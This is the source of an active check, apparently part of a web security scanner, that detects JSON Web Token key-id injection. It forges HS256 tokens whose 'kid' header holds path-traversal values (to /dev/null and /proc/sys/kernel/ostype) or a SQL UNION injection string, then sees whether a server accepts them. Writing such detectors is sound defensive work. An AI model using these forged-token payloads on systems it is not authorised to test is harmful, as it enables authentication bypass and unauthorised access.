import { forge, tokenTrial } from '../../attacks/tokens.js';
import type { ActiveCheck, Prober, Proof } from '../../check.js';
import type { ProbeRequest } from '../../exchange.js';

export const check: ActiveCheck = {
  id: 'jwt-key-id-traversal',
  mode: 'active',
  scope: 'operation',
  places: [],
  writes: false,
  technologies: [],
  title: 'The key id of a JSON Web Token is used as a path or in a query',
  severity: 'critical',
  aliases: ['CWE-73', 'CWE-347', 'WASC-33'],
  cwe: 73,
  fix: 'Look the key id up in a fixed table.',
  references: ['https://www.rfc-editor.org/rfc/rfc8725#section-3.10'],
  cost: { low: 6, medium: 8, high: 8, insane: 8 },
  attack: async (target, prober) => (target.scope === 'operation' ? prove(target.request, prober) : []),
};

/** Keys whose content is known: an empty file, a file of one line, and a row that a query makes up. */
const keys: readonly (readonly [kid: string, key: string])[] = [
  [`${'../'.repeat(10)}dev/null`, ''],
  ['/dev/null', ''],
  ["q' UNION SELECT 'pier'-- ", 'pier'],
  [`${'../'.repeat(10)}proc/sys/kernel/ostype`, 'Linux\n'],
];

async function prove(request: ProbeRequest, prober: Prober): Promise<readonly Proof[]> {
  const trial = await tokenTrial(prober, request);
  if (trial?.refused === undefined) return [];
  const { claims, header } = trial.decoded;
  for (const [kid, key] of keys.slice(0, prober.strength === 'low' ? 2 : 4)) {
    const payload = forge({ ...header, alg: 'HS256', kid }, claims, key);
    if ((await trial.accepts(payload)) === undefined) continue;
    const attack = await trial.accepts(payload);
    if (attack === undefined) continue;
    const evidence = `accepted with the key id ${kid}`;
    return [
      {
        subject: 'kid',
        payload,
        attack,
        control: trial.refused,
        repeated: 2,
        evidence,
        confidence: 'confirmed',
      },
    ];
  }
  return [];
}
